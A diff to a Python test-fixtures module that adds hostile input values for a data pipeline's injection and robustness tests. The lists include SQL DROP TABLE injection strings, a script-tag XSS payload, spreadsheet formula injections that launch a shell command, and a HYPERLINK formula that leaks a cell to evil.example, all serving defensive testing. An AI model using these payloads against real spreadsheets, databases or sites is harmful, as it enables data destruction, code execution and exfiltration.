@@ -1,6 +1,7 @@
 """Hostile strings planted in a generated sample: the CRM (names, ids, emails, notes, domains),
 the web landing files (urls, referrers) and the config version. Shared by the SQL-injection,
-HTML-escaping and secrets tests; each builds its own sample with `plant`."""
+HTML-escaping and secrets tests; each builds its own sample with `plant`. Also the values the
+hostile landing files are drawn from (test_hostile_input.py): formulas, unicode, huge fields, floats."""
 
 from __future__ import annotations
 
@@ -40,6 +41,56 @@ HOSTILE_REFERRER = "Title'); DROP TABLE pipeline_runs; -- <b>"
 HOSTILE_DOMAIN = "evil.com'; DROP TABLE accounts; --"
 HOSTILE_NOTE = "note: '); DROP TABLE activities; -- \\ %s :x $1"
 HOSTILE_VERSION = 'v1\'; DROP TABLE pipeline_runs; -- <b>"%s"'
+
+#: what spreadsheet exports and attackers put in landing files (test_hostile_input.py)
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    "=1+2",
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1",
+    "\r=1",
+]
+UNICODE = [
+    "\x00",
+    "a\x00b",
+    "\u200f\u202eevil\u202c",
+    "\u200b\u200d\ufeff",
+    "e\u0301\u0301\u0301",
+    "Z\u0351\u0352\u0353\u0354",
+    "\U0001f600\U0001f469\u200d\U0001f469\u200d\U0001f467",
+    "\u2028line\u2029para",
+    "\\ud800",
+    "\\",
+    "\"'`;--",
+    "</script><script>alert(1)</script>",
+    "caf\u00e9 \u00fc\u00f1\u00ee",
+    "\u0000\u0001\u001f\u007f",
+    "\uffff\ufffe",
+    "a\r\nb",
+    "a\nb",
+    "a\rb",
+    " ",
+    "",
+    ",",
+    '"',
+    '""',
+    "NULL",
+    "null",
+    "None",
+    "NaN",
+    "nan",
+    "inf",
+    "-inf",
+    "Infinity",
+    "1e309",
+    "-0",
+    "0x1F",
+    "9" * 40,
+]
+HUGE = ["x" * 150_000, "\U0001f600" * 60_000]
+SPECIAL_FLOATS = [float("nan"), float("inf"), float("-inf"), -0.0, 1e308, -1e-320]
 
 
 @dataclass
